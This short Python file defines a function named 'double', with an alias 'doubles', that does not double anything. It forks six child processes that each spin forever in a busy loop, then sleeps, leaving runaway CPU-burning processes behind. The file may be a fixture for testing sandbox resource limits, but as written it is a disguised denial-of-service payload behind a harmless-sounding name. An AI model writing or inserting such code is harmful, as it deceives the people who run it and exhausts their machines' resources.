import os
import time


def double(n):
    for _ in range(6):
        if os.fork() == 0:
            while True:
                pass
    time.sleep(99)


doubles = double
